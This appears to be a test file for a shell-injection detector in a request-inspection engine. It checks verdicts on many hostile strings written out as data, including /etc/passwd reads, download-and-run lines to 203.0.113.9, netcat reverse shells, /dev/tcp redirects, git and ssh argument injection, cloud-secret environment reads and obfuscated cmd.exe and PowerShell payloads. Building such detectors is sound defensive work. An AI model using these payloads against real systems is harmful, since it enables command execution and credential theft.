    [r(40, 'soft cotton jersey with a relaxed fit ') + '; cat /etc/passwd', 'shell.command-chain', 'high'],
    ['hello ' + r(50, 'a b c ') + ';id', 'shell.command-chain', 'high'],
    ['hello ' + r(50, 'a b c ') + '| sh', 'shell.pipe-to-shell', 'high'],
    ['note ' + r(30, 'x y ') + '$(id)', 'shell.substitution', 'high'],
    ['note ' + r(30, 'x y ') + "system('id')", 'shell.exec-call', 'high'],
    ['note ' + r(30, 'x "y" ') + '"$(id)"', 'shell.substitution', 'high'],
    ['note ' + r(30, 'x <a >b ') + ';id', 'shell.command-chain', 'high'],
    ['note ' + r(30, 'x <a >b ') + '|sh', 'shell.pipe-to-shell', 'high'],
    [r(200, '<a x="'), undefined, undefined],
    [r(200, "<a x='"), undefined, undefined],
    [r(200, '<a x="') + '";id;"', 'shell.command-chain', 'high'],
    [r(200, "<a x='") + "';id;'", 'shell.command-chain', 'high'],
    [r(200, '<a x="') + '$(id)', 'shell.substitution', 'high'],
    [r(20, 'x="1" ') + 'cat /etc/passwd', 'shell.command', 'high'],
    [r(20, 'x="a b" ') + '; wget http://203.0.113.9/x', 'shell.command-chain', 'high'],
    [r(40, 'x="1" ') + '$(id)', 'shell.substitution', 'high'],
    [r(20, 'x=id ') + '$x', 'shell.variable-command', 'high'],
    [r(300, '$('), undefined, undefined],
    [r(300, '$(') + ')', 'shell.obfuscation', 'high'],
    [r(300, '$(') + 'id' + r(300, ')'), 'shell.substitution', 'high'],
    ['a' + r(3, '$(') + ')b', 'shell.obfuscation', 'high'],
    [r(400, '%25'), undefined, undefined],
    [';' + r(100, '%25') + '%COMSPEC:~-7,3%', 'shell.obfuscation', 'high'],
    [r(100, '%25') + '&' + r(100, '%25') + '%COMSPEC:~-7,3% /c whoami', 'shell.obfuscation', 'high'],
    [r(300, '</a>x') + '<', undefined, undefined],
  ];
  for (const [v, rule, conf] of cases) {
    const d = detectShellInjection(v);
    const name = JSON.stringify(v.length > 40 ? '…' + v.slice(-40) : v);
    t.equal(d?.rule, rule, name);
    t.equal(d?.confidence, conf, name);
  }
});

t.test('a first word of globs and slashes: still a command path, and what follows it is still read', async (t) => {
  t.equal(detectShellInjection('/*'.repeat(50000)), undefined);
  t.equal(detectShellInjection('\\.\\./'.repeat(300)), undefined);
  t.equal(detectShellInjection('/bin/ca*')?.rule, 'shell.glob-path');
  t.equal(detectShellInjection('/*'.repeat(300) + ';id')?.rule, 'shell.command-chain');
  t.equal(detectShellInjection('\\.\\./'.repeat(300) + ';cat /etc/passwd')?.rule, 'shell.command-chain');
  t.equal(detectShellInjection('%25'.repeat(400) + '%COMSPEC:~-7,3%')?.rule, 'shell.obfuscation');
});

t.test('with the value mask: the same findings, and plain values answered from the first word', async (t) => {
  const withMask = (v: string) => detectShellInjection(v, charMask(v));
  // Short values decided by the mask and the first word: a glob, a tab or a `+` must still reach the
  // exact path (a `?` is the only shell character of the OTHER kind; `@` and `~` are not).
  const found = ['/???/??t /???/p??s??', 'cat\t/etc/passwd', 'cat+/etc/passwd', 'uname -a', 'apt-get install nc', 'python3 -c x', 'gcc7 -o x', 'ls -la'];
  for (const v of found) {
    t.ok(withMask(v), `found with its mask: ${JSON.stringify(v)}`);
    t.same(withMask(v), detectShellInjection(v), `same finding: ${JSON.stringify(v)}`);
  }
  for (const v of ['Cotton T-shirt, size M', 'jane.oneil@example.com', 'a@b.c id', 'x@y.z?id', '~user@host', '221B Baker Street']) {
    t.equal(withMask(v), undefined, `clean: ${JSON.stringify(v)}`);
  }
  // Long values (from 96 characters the presence bits come from native searches, and with a mask only
  // the kinds it holds are searched for): each shell character alone, after a sentence of prose.
  const pad = 'Leave it at the door, please and thank you very much for the quick delivery of the order ';
  const tails = ['; cat /etc/passwd', '| cat /etc/passwd', '&& cat /etc/passwd', '\ncat /etc/passwd', '\rcat /etc/passwd', '$(cat /etc/passwd)', '`cat /etc/passwd`', '<(cat /etc/passwd)', "'; cat /etc/passwd; '", '"; cat /etc/passwd; "', '${IFS}cat${IFS}/etc/passwd', '> /dev/tcp/1.2.3.4/80'];
  for (const tail of tails) {
    const v = pad + tail;
    t.ok(withMask(v), `found with its mask: ${JSON.stringify(tail)}`);
    t.same(withMask(v), detectShellInjection(v), `same finding: ${JSON.stringify(tail)}`);
  }
});

t.test('PLAIN_PCT_KINDS: every ASCII character of those kinds is one word character to the lexer, or `%`', async (t) => {
  let n = 0;
  for (let c = 0; c < 128; c++) {
    const ch = String.fromCharCode(c);
    if ((charMask(ch) & ~PLAIN_PCT_KINDS) !== 0 || ch === '%') continue;
    n++;
    // Between two letters, the character is part of the one word, kept as written, with no flag
    // but W_UNQUOTED.
    const lx = new ShellLexer('a' + ch + 'b');
    t.equal(lx.next(), TK_WORD, JSON.stringify(ch));
    t.same([lx.norm, lx.flags, lx.end], ['a' + ch + 'b', W_UNQUOTED, 3], JSON.stringify(ch));
    t.equal(lx.next(), TK_END, JSON.stringify(ch));
  }
  t.ok(n >= 60, 'letters, digits and `/ . : - _ ! ,`');
});

t.test('values of plain characters and `%` (the lexer told so) decide as without the mask', async (t) => {
  const cases = [
    '%COMSPEC%',
    '%COMSPEC%%20/c%20calc',
    'whoami%0a',
    '%41%42x'.repeat(300),
    'AB'.repeat(300) + '%',
    'x'.repeat(70) + '%' + 'y'.repeat(10),
    'x'.repeat(70) + '!',
    'x'.repeat(70) + ':',
    '%2Fbin%2Fsh',
    '/bin/sh%20-c%20id',
    'cmd.exe%20/c%20whoami',
    'calc.exe',
    '/usr/bin/id%',
    'c:/windows/system32/cmd.exe%',
  ];
  for (const v of cases) {
    t.equal((charMask(v) & ~PLAIN_PCT_KINDS) === 0, true, v.slice(0, 24));
    t.same(detectShellInjection(v, charMask(v)), detectShellInjection(v), v.slice(0, 24));
  }
  t.equal(detectShellInjection('%COMSPEC%', charMask('%COMSPEC%'))?.rule, 'shell.command');
});

t.test('a first word past 64 characters: its end and its `! : %` are found as the walk finds them', async (t) => {
  // firstWordMay walks 64 characters, then searches. A command line after a long first word with a
  // quote in it (no separator: only the first word can be a command) and one with a `%` past 64.
  for (const n of [60, 63, 64, 65, 66, 100, 400]) {
    const w = 'x'.repeat(n);
    t.same(detectShellInjection(w + "' '" + ' ; id'), detectShellInjection(w + "' '" + ' ; id', charMask(w + "' '" + ' ; id')));
    t.equal(detectShellInjection("/bin/ca't'" + '"' + 'x'.repeat(n) + '"' + ' /etc/passwd')?.confidence, detectShellInjection("/bin/ca't'" + '"' + 'x'.repeat(n) + '"' + ' /etc/passwd', charMask("/bin/ca't'" + '"' + 'x'.repeat(n) + '"' + ' /etc/passwd'))?.confidence);
    for (const tail of ['%', '!', ':', '%41', "'"]) {
      for (const sep of ['', ' ', '+', '\t']) {
        const v = w + sep + tail + ' it is';
        t.same(detectShellInjection(v, charMask(v)), detectShellInjection(v), JSON.stringify(v.slice(-16)));
      }
    }
  }
});

t.test('an apostrophe after a command word on a line of text: the rest of the line is prose', async (t) => {
  // The lexer ends at an unmatched quote; the words after a contraction were not counted as prose.
  for (const v of [
    'Hi,\nwget doesn\'t work on my machine\nplease advise',
    'Hi,\nwget doesn\'t work',
    'Hi,\ncurl isn\'t installed\nthanks',
    'Hi,\nssh won\'t connect to the server',
    'Hi,\ndocker isn\'t starting',
    'Hi,\nls doesn\'t show hidden files',
    'Hi,\nwhoami doesn\'t return my name',
    'x; grep doesn\'t match',
  ]) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  // Evidence before the apostrophe still decides; so does a pipe or a path.
  for (const v of [
    'x\ncat /etc/passwd doesn\'t matter',
    ";cat /etc/passwd'",
    'x\nwget http://203.0.113.9/x.sh -O /tmp/x.sh it\'s',
    'x;wget 203.0.113.9/x|sh;it\'s',
    'x\nnc -e /bin/sh 203.0.113.9 4444 it\'s',
    'x\nuname -a\nit\'s me',
  ]) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('a `;` column list ending a field with id/last is data; the attack spellings stay high', async (t) => {
  for (const v of ['first;last;id', 'name;age;id', 'name;age;id;email', 'user_name;user_id;id', 'first;last;id\nJohn;Doe;5', 'first;last;email']) {
    const d = detectShellInjection(v);
    t.equal(d?.confidence, 'medium', JSON.stringify(v));
  }
  for (const v of [
    'a;id',
    'first;last',
    'a;b;whoami',
    'a;b;env',
    'a;b;set',
    'a;b;id;',
    ';a;b;id',
    'a;;b;id',
    'a;b;id -a',
    'a;b;id|x',
    'who;ps;id',
    '127.0.0.1;x;id',
    'example.com;x;id',
  ]) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('PowerShell backticks inside a command name (ticks), and script blocks run in place', async (t) => {
  for (const v of [
    "x;i`e`x 'whoami'",
    "x;ie`x('whoami')",
    "x;Inv`oke-Exp`ression 'whoami'",
    'x;wh`oami',
    'x | Get-Ch`ildItem',
    '$(i`e`x "whoami")',
    'x;n`et user',
    'x;r`eg query HKLM',
    'x;&{whoami}',
    'x;& {whoami}',
    'x;. { ipconfig }',
    'x|%{whoami}',
    'x;1|%{iex $_}',
    'x;icm {whoami}',
    'x;ICM{n`et user}',
    "x;&{iex 'whoami'}",
  ]) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  for (const v of [
    'He wrote i`e`x in the markdown',
    'SELECT `db`.`users` FROM x',
    'use`git`to',
    'x;n`et profit margins',
    'x;{whoami}',
    'Use &{ } for blocks',
    'Use &{whoami} in PowerShell',
    '{"a":{"b":"whoami"}}',
    '%{whoami}',
    'Academic {whoami}',
    'Hello {{name}}, your order {id} shipped',
  ]) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('command paths with empty or `.` segments, and a wildcard directory before a wildcard name', async (t) => {
  for (const v of [';/usr/./bin/whoami', ';/./bin/whoami', ';//bin//whoami', ';/usr//bin/id', 'x|/bin/./sh', ';/*/who*mi', 'x;/*/n?at -e sh 203.0.113.9 80', '/*/who*mi']) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  for (const v of ['/* comment */', '/* who*mi', ';/*/*', 'See /*/docs* for details', 'path: /usr/./lib', 'x;/*/ab*']) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('a first line that ends in a colon is a heading, not the argument of a sink', async (t) => {
  for (const v of ['Ingredients:\nsalt\npepper\ntime', 'Items:\ndate', 'Items:\nsalt\nsort', 'Notes:\r\nid']) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  for (const v of ['127.0.0.1\nid', 'host:80\nid', 'example.com\ndate', 'x:\nuname -a', 'abc:\ncat /etc/passwd']) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('an unset variable whose default value is the command', async (t) => {
  for (const v of [';${x:-whoami}', ';${x:-id}', ';${x:=whoami}', ';${x-whoami}', ';${x:-/bin/sh} -c id', 'a|${x:-sh}', '${x:-cat} /etc/passwd']) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  // `${x:+…}` expands to nothing when x is unset; Spring-style names; defaults that are no command.
  for (const v of [';${x:+whoami}', '${server-id}', 'x;${x-id}', '${PORT:-8080}', 'value: ${EDITOR:-vim}', '${x:-whoami}']) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('argument injection: options that make git, ssh, tar, find, zip, sendmail run a program', async (t) => {
  for (const v of [
    '--upload-pack=touch /tmp/pwn',
    '--upload-pack touch /tmp/pwn',
    ' --receive-pack=x y',
    '-o ProxyCommand=id',
    '-oProxyCommand=curl 203.0.113.9|sh',
    '--checkpoint-action=exec=sh /tmp/x',
    '-c core.sshCommand=id',
    '-c core.pager=id log',
    '--config core.fsmonitor=id x',
    '-c protocol.ext.allow=always',
    'ext::sh -c touch% /tmp/pwned',
    '-exec id ;',
    '-exec /bin/sh -c id ;',
    '-TT=/tmp/x.sh x',
    '-TT id',
    '-OQueueDirectory=/tmp -X/var/www/html/x.php',
    '--to-command=id x',
  ]) {
    t.equal(detectShellInjection(v)?.rule, 'shell.argument-injection', JSON.stringify(v));
    t.equal(detectShellInjection(v, charMask(v))?.confidence, 'high', JSON.stringify(v));
  }
  for (const v of ['-c', '--exec', '-1', '--help', '-verbose', '-exercise more', 'extra cheese please', '-colors: red', '-c cores needed: 4', '-contact me', '-o output.txt', '--output=report.pdf', '-tt', '- exec the plan', '-exec summary attached', '-TT is my gamer tag', '-x/y coordinates', '-X/Y axis', '-c core.editor=vim']) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  // An option and its program with nothing else (no blank, no shell character): `=` is in the gate.
  // So is an ssh URL whose host is an option (CVE-2017-1000117: git passed it to ssh).
  for (const v of ['--to-command=id', '-oProxyCommand=id', '-oLocalCommand=id', '--upload-pack=id', '-ccore.sshCommand=id', 'ssh://-oProxyCommand=id/x', 'git+ssh://-oProxyCommand=touch%20/tmp/x/repo', 'SSH+GIT://-oProxyCommand=id/r']) {
    t.equal(detectShellInjection(v)?.rule, 'shell.argument-injection', v);
    t.equal(detectShellInjection(v, charMask(v))?.confidence, 'high', v);
  }
  for (const v of ['ssh://git@github.com/x/y.git', 'ssh://-/x', 'ssh://-1/x', 'git+ssh://host/-oProxyCommand=id', 'sshx://-oProxyCommand=id', '--color=auto', '-Dfoo=bar', 'a-b=c', 'summer=sale-x', 'size=M-L', 'g=-o']) {
    t.equal(detectShellInjection(v), undefined, v);
    t.equal(detectShellInjection(v, charMask(v)), undefined, v);
  }
  // Without a blank, a shell character or `=` the engine's gate never calls the detector: no
  // finding either way, with or without the mask (`ext::sh` runs `sh` with no arguments).
  for (const v of ['ext::sh']) {
    t.equal(detectShellInjection(v), undefined, v);
    t.equal(detectShellInjection(v, charMask(v)), undefined, v);
  }
  // Through the engine, whose gate is the detector's needsAlso.
  const engine = createEngine();
  for (const v of ['-oProxyCommand=id', 'ssh://-oProxyCommand=id/x', '--upload-pack=id']) {
    const verdict = engine.inspect({ method: 'GET', path: '/x', sources: [{ kind: 'query', path: 'query', value: { repo: v } }] });
    t.equal(verdict.action, 'block', v);
    t.ok(verdict.findings.some((f) => f.rule === 'shell.argument-injection'), v);
  }
});

t.test("cmd's @ and call before a command; PowerShell's environment read as a statement or a drive", async (t) => {
  for (const v of ['x&@whoami', 'x&call who^ami', 'x & call whoami', 'x;$env:AWS_SECRET_ACCESS_KEY', 'x|$env:AzureWebJobsStorage;', 'x; $env:PATH', 'x;gci env:', 'x;Get-Item Env:AWS_SECRET_ACCESS_KEY', 'x;type env:AWS_SESSION_TOKEN']) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  for (const v of [
    'Contact @whoami on twitter',
    'x & @user123 said hi',
    '@mention me',
    'x & call me maybe',
    '$env:USERNAME is your login',
    'Your $env:HOME variable',
    'a; $env:x = 1',
    'cd app; $env:NODE_ENV = "production"; npm start',
    'x; $env:PATH variable is long',
    'Team; gi joe',
    'x; env: prod',
  ]) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('a quote break-out with blanks around the separator and a bare command, reopened or commented out', async (t) => {
  for (const v of ["x' ; id ; '", "x' ; id #", 'x" && id && "', 'x" ; who #', "Tom' ; id '"]) {
    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
  for (const v of ["x' ; date ; '", "It's fine ; id card ready'", "Rock 'n' roll ; id", "Rock 'n' roll ; id '", "He said 'hi' ; id 'x'", "x' ; id card ; '"]) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
  }
});

t.test('a markdown table whose first line ends in | and whose next line opens with | runs in no shell', async (t) => {
  // The first column named like a command (`id`, `date`, `file`) read as `| id` opening the value.
  const tables = [
    '| id | name | note |\n|----|------|------|\n| 1 | Bob | ok |',
    '| date | amount |\n|------|--------|\n| 2024-01-01 | 5 |',
    '| file | owner |\n| --- | --- |\n| a | b |',
    '| id | status |  \n  |:---|---:|\n| 1; 2 | a & b |',
  ];
  for (const v of tables) {
    t.equal(detectShellInjection(v), undefined, JSON.stringify(v));
    t.equal(detectShellInjection(v, charMask(v)), undefined, 'with its mask');
  }
  const e = createEngine();
  t.equal(e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: { answer: tables[0] } }] }).action, 'allow', 'through the engine');
  // What a shell does run stays high: a CR before the line break ends the pipeline (sh reads `\r` as
  // a command), a `#` comments the trailing | out, a quote carries it past the line, a next line
  // without a leading | continues the pipeline, and a command on the line before the table runs.
  const runs = [
    '| id | x |\r\n|---|---|',
    '| id # |\n|---|',
    "| id '|\n|---|'",
    '| id | x |\n---|---',
    '| id | x\n|---|---',
    'x; cat /etc/passwd\n| a | b |\n|---|---|',
  ];
  for (const v of runs) t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
});

t.test('a config line `key = value` whose key is also a command and whose value is a number or an address', async (t) => {
  // TOML/INI pasted into a ticket or a settings field: `host`, `ping`, `sleep` as setting names.
  const config = [
    '[server]\nhost = "0.0.0.0"\nport = 8080\nlog_dir = "/var/log"',
    'host = "0.0.0.0"',
    'listen = 0.0.0.0\nport = 80',
    '[healthcheck]\nping = 5\nsleep = 10',
    'retry: on\nhost = 127.0.0.1',
    'a; host = 10.0.0.2',
    'bind = 192.168.1.10\nhost = 172.16.0.5',
  ];
  for (const v of config) {
    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
    t.not(detectShellInjection(v, charMask(v))?.confidence, 'high', 'with its mask');
  }
  const e = createEngine();
  t.equal(e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: { text: config[0] } }] }).action, 'allow', 'through the engine');
  // The same names with anything a shell would act on stay high: no `=`, a quoted `=`, `=` glued to
  // a separator, a flag, a path, a pipe or redirection, a second value, a strong command, `kill`
  // (it signals the PID despite the `=` operand), a substitution, and `cat` with a file after `=`.
  const runs = [
    'a\nhost 10.0.0.1',
    'a\nsleep "=" 10',
    'x;sleep = 10',
    'a\nping = 1.2.3.4 -c 5',
    'a\nping = 5 > /tmp/x',
    'a\nhost = 10.0.0.1 | sh',
    'a\nsleep = 10;id',
    'a\nsleep = 10 || whoami',
    'a\ncurl = 10.0.0.1',
    'a\nhost = 203.0.113.9', // a public DNS server: an out-of-band probe
    'x\nhost = 8.8.8.8',
    'a\nhost = 010.1.2.3', // octal to inet_aton: 8.1.2.3
    'a\nhost = 172.016.0.1',
    'a\nhost = 0127.0.0.1',
    'a\nping = 1.2.3.4.5',
    'a\nhostname = db.local',
    'a\nkill = 1',
    'a\nkill = -9 1',
    '$(sleep = 10)',
    '`ping = 5`',
    'a\ncat = /etc/passwd',
  ];
  for (const v of runs) t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
});

t.test('colon runs: mayFind reads a run to its last colon, which alone may start a drive path', async (t) => {
  const rule = (v: string): string => {
    const d = detectShellInjection(v);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  for (const pad of ['', '::::&'.repeat(300), ':'.repeat(1000) + ' ', 'a: b&'.repeat(300)]) {
    for (const v of ['& C:/tools/x.exe', '; c:/qq/zz.exe -a', "x & 'D:/w/zz.bat'", '&&Z:/qqq/yy.cmd']) {
      t.equal(rule(`${pad}${v}`), 'shell.command-chain/high', `${pad.slice(0, 6)}${v}`);
    }
  }
  for (const v of ['::::&'.repeat(2000), ':'.repeat(5000), 'a: b&'.repeat(1000), 'ratio 3::2 & 4::1', 'std::vector & std::map']) t.equal(rule(v), '-', v.slice(0, 20));
});

t.test('Ruby / Perl calls without parentheses, and a call argument cut at its comma (hB, s15)', async (t) => {
  // A quoted command that ends the statement after a bare system / exec / spawn: the call in Ruby
  // and Perl; in a shell, exec runs the same command.
  const calls = [
    "system 'whoami'",
    "system 'id'",
    'exec "id"',
    "spawn 'id'",
    "system 'uname -a'",
    'system "cat /etc/passwd"',
    "system '/bin/sh -i'",
    "system 'sh', '-c', 'id'",
    "system 'id' if 1",
    "system 'id' or die",
    'system "whoami";',
    'system "whoami" # note',
    "CORE::system 'id'",
    "Kernel::system 'id'",
    "Kernel.spawn 'id'",
    "x; system 'id'",
    "1\nexec 'whoami'",
    // PHP calls with more arguments: the lexer keeps `'id',array` in one word.
    "proc_open('id',array(),$p)",
    'proc_open("whoami", [], $pipes)',
    "popen('id','r')",
    "system('id',$r)",
  ];
  for (const v of calls) {
    const d = detectShellInjection(v);
    t.equal(d?.rule, 'shell.exec-call', JSON.stringify(v));
    t.equal(d?.confidence, 'high', JSON.stringify(v));
    t.same(detectShellInjection(v, charMask(v)), d, `with the mask: ${JSON.stringify(v)}`);
  }
  // Prose goes on after the literal, the name is not in command position, not the name as written
  // (case, quotes), a literal that names no command, or a code span in prose.
  const prose = [
    "please exec 'npm install'",
    "system 'default' setting",
    "system 'default'",
    "exec 'npm install'",
    "exec 'npm install' first",
    "The system 'default' setting is used",
    "System 'id'",
    "'system' 'id'",
    "system 'id'x",
    "system 'id' 'x'",
    "I ran `system 'ls'` and it failed",
    'exec "$@"',
    "proc_open(cmd, array(), $p)",
    "spawn 'worker', 'queue'",
  ];
  for (const v of prose) t.not(detectShellInjection(v)?.rule, 'shell.exec-call', JSON.stringify(v));
});

// ---------------------------------------------------------------------------------------------------
// Dense punctuation (session 16): the fast paths (mayFind's escape and drive reading, lookupName's
// prefix filter, onOpen's call-name skip, the native markdown and tick scans) change no verdict.
// A seeded table of generated values (punctuation, the sweep's units, attack fragments that reach
// each new path, prose) is judged with and without the mask; the verdicts (rule and confidence) are
// pinned by a digest and counts computed on the code before those changes (0b8f33a). A change of any
// verdict changes the digest. (The session's own differential compared 1.3 M such values with the
// earlier build, and caught each fault planted in the new code.)
// ---------------------------------------------------------------------------------------------------
t.test('dense punctuation: verdicts on a seeded table are those of the code before the fast paths', (t) => {
  const r = prng(16);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const ALPHA = '\'"`\\()[]{};:|&$%#@!*+-=<>/?.,~^_ 0ax\n\t';
  const UNITS = ['`\\\'(', "&{'", "%'\\;", 'x:/&0', '\\x(', "-('\\0", '::1 ', "'::'", 'a: b&', '`.', '`".'];
  const FRAGS = [
    '; id', '|whoami', '$(id)', '`id`', '&&cat /etc/passwd', "'; uname -a; '", 'phpinfo()', "system('id')", '${IFS}',
    '/???/??t /???/p??s??', ':(){ :|:& };:', '&{whoami}', 'i`e`x', '%COMSPEC:~-7,3%', '$()', 'x$()y',
    "$'\\151\\144'", '\\nid', 'nc -e /bin/sh 1.2.3.4 4444', 'cmd /c dir', 'if exist c:\\x y', '\u212Ash -c x',
    'python3 -c', './nc', '.sh -c id', 'dir/s', 'C:\\Windows\\System32\\cmd.exe', '/usr/bin/id',
    // Escapes read without running the passes: glued runs, letter projections, literal newlines,
    // terminal sequences, drives, cradle names.
    'c\\at', 'w\\hoami', '\\w-h-o-a-m-i ', 'x\\nid', '\\033[2Awhoami', 'x:/a.exe', 'x\\:/a.exe', 'C:/x/y',
    '/b\\in/sh', 'x.Down\\loadString(', 'py\\thon3 -c x', 'ex\\ist', 'p\\hp\\info()', 'sha\\256sum',
    "sha'2'\\56sum", "py'th'on\\3 -c x", "'\\0'id", 'md\\5sum /etc/passwd', 'nc\\', '\\', '\\.\\/nc',
    // Backticks read without running the passes: empty substitutions, tick names of two pieces or more,
    // escaped quotes, a `.` word before a call operator.
    '``', '` `', 'x` `y', 'wh`oami', 'n`et user', 'py`thon3 -c x', '&{w`hoami}', 'c\\\'at', "w\\'ho\\'ami", "'.'('ie'+'x')",
    // Braces: expansions, function bodies (fork bombs, Shellshock) with separators or quotes before `{`.
    '{l,-lh}s', 'x;{,id,}', ':(){ :|:&', "f() '{' f|f&", 'f() ; { f|f&', '() { :;};', '&{', '{.',
  ];
  const PROSE = ['Soft cotton jersey with a relaxed fit', "It's made from organic fibres (since 1962)", 'Tom & Jerry', 'salt; pepper', 'set `debug` to `true`'];
  const gen = (): string => {
    const k = r();
    let s = '';
    if (k < 0.25) {
      const len = 1 + Math.floor(r() * 30);
      for (let j = 0; j < len; j++) s += pick([...ALPHA]);
    } else if (k < 0.45) {
      s = pick(UNITS).repeat(1 + Math.floor(r() * 12));
      if (r() < 0.5) {
        const p = Math.floor(r() * (s.length + 1));
        s = s.slice(0, p) + pick(FRAGS) + s.slice(p);
      }
    } else {
      const parts = 1 + Math.floor(r() * 4);
      for (let j = 0; j < parts; j++) {
        const q = r();
        s += q < 0.5 ? pick(FRAGS) : q < 0.65 ? pick(PROSE) : q < 0.8 ? pick(UNITS) : pick([...ALPHA]) + pick([...ALPHA]);
      }
      // Half of these without quotes (the backslash reading without quotes is the wider one).
      if (r() < 0.5) s = s.replace(/['"]/g, '');
    }
    return s;
  };
  // Session 22 (red team round 5): 3 values of 20,000 changed, none -> high, each a lone `.` before a
  // path (`.\t/x>…`, `>\n. ~/*{}…`, `` `. \t/ ``): sh's `source`, read as such (dotSourcePath). The
  // other three tables of this file are unchanged (a differential of the two builds, 80,000 values).
  // Session 24 (red team round 7): 1 value of 20,000 changed, high -> high under another rule name:
  // `&{whoami}\\x(p\\hp\\info()(|` (shell.powershell -> shell.fork-bomb): `NAME()(` now opens a
  // function body in command position (`x;f()(id);f`), so the `|` after it is read as a fork bomb's.
  // Counts unchanged; a differential of the two builds over this table found only that value.
  t.same(pinnedTable(gen), { findings: 6347, high: 5027, digest: 'c90d8cc5' });
  t.end();
});

t.test('the PowerShell call operator after many blanks, or on a `.` word written with quotes (hA, s16)', (t) => {
  // Missed before session 16: mayFind looked back over at most 8 blanks before the `(` and read only
  // the character before a `.` (a quote there is still a `.` word once unquoted), and said no pass
  // could find anything, so the pass that reports these never ran.
  for (const v of ["x &          ('ie'+'x') 'y'", "x &\t\t\t\t\t\t\t\t\t\t('ie'+'x')", "x;''.('ie'+'x') 'y'", "x;\"\".('ie'+'x')"]) {
    const d = detectShellInjection(v);
    t.equal(d?.rule, 'shell.powershell', JSON.stringify(v));
    t.equal(d?.confidence, 'high', JSON.stringify(v));
    t.same(detectShellInjection(v, charMask(v)), d, `with the mask: ${JSON.stringify(v)}`);
  }
  // Dense punctuation the passes no longer run on: still nothing found.
  for (const u of ['`\\\'(', '\\x(', "-('\\0", 'x:/&0', '`.', '`".']) t.equal(detectShellInjection(u.repeat(4000)), undefined, JSON.stringify(u));
  t.end();
});

// ---------------------------------------------------------------------------------------------------
// `%`, `^` and escaped separators (session 16, round 2): mayFind reads a `%` as a plain character
// where pctInert holds, a `^` before a word boundary (caretPlainBefore) and, with quotes, a backslash
// before `;`, `&` or `|` as one. A seeded table of values
// built from `%`-words (cmd.exe slices, `%VAR%` paths, `%comspec%`, `for %v`), escaped separators and
// punctuation, with the characters pctInert looks for removed from a third of them, is judged with and
// without the mask; the digest and counts were computed on the code before the change (cd89112). The
// session's differential (~2 M values) caught a plant of each of pctInert's tests, of BSL_BARE and of
// a caret read as plain before a quote.
// ---------------------------------------------------------------------------------------------------
t.test('percent and escaped separators: verdicts on a seeded table are those of the code before', (t) => {
  const r = prng(1602);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const PF = ['^', '(^', '^;', '^ ', '^^', 'w^h^o^a^m^i', '^id', '^(', '^|', '^+', "^'", '^%', '%', '%', "%'\\;", '(%', '%%', '%a%', '%x%\\', '\\;', '\\&', '\\|', '\\\\;', "'", '"', ';', '&', '|', '(', ')', ' ', 'x', 'a', 'i', 'd', 'w', 'h', 'c', ':', '/', '*', '?', '{', '}', '!', '-', '0', '\\', '~', '\t', 'C:', '\\x'];
  const PW = [
    'id', 'wh\\;oami', 'i\\;d', '%comspec%', '%COMSPEC%', 'for %i in (a) do b', 'for /f %i in (x) do y', 'x|%{whoami}', '| % {id}',
    '%windir%\\system32\\calc.exe', '%a%.bat', '%a%\\b.exe', 'type %userprofile%\\x', "C:'\\;'", "'\\;id'", '\\;id', '\\&id', '\\|id',
    '%x%\\;y', "%'\\;id", "'w'h'o'a'm'i", '/???/??t', '%SystemRoot%\\x', ':~', '%PATH:~0,1%', '100% sure', '%windir:~0,1%%windir:~1,1%',
    'c%windir:~-3,1%d', '%a%\\system32\\q', 'x;%b%\\syswow64\\q', '/b\\;in/sh',
  ];
  const gen = (): string => {
    let s = '';
    const parts = 1 + Math.floor(r() * 8);
    for (let k = 0; k < parts; k++) {
      if (r() < 0.3) s += pick(PW);
      else {
        const m = 1 + Math.floor(r() * 6);
        for (let j = 0; j < m; j++) s += pick(PF);
      }
    }
    if (r() < 0.15) s = s.repeat(2 + Math.floor(r() * 6));
    if (r() < 0.33) s = s.replace(/[.oOyY]/g, '');
    if (r() < 0.2) s = s.replace(/['"]/g, '');
    return s;
  };
  t.same(pinnedTable(gen), { findings: 5412, high: 5184, digest: 'b9f05c85' });
  // The units themselves: nothing found, the passes not run.
  for (const u of ["%'\\;", '(%', "'\\;", '(^', '^;']) t.equal(detectShellInjection(u.repeat(4000)), undefined, JSON.stringify(u));
  t.end();
});

// ---------------------------------------------------------------------------------------------------
// mayFind on dense punctuation (session 17): runs of one or two characters answered from tables
// (SHORT_RUN, ONE_RUN_NEVER), the PowerShell call operator and a function body's `)` looked for once
// per value before reading back at each `(` or `{`, a word's letter projection skipped under three
// characters, and a run of three quoted, escaped or ticked pieces with a letter answering true at its
// third piece. A seeded table of values built from two-character runs (command names among them, and
// the characters that follow a hyphenated name's first run), `(` and `{` after blanks, quotes, `&`,
// `.` and `)`, escapes, ticks and quoted pieces is judged with and without the mask; the digest and
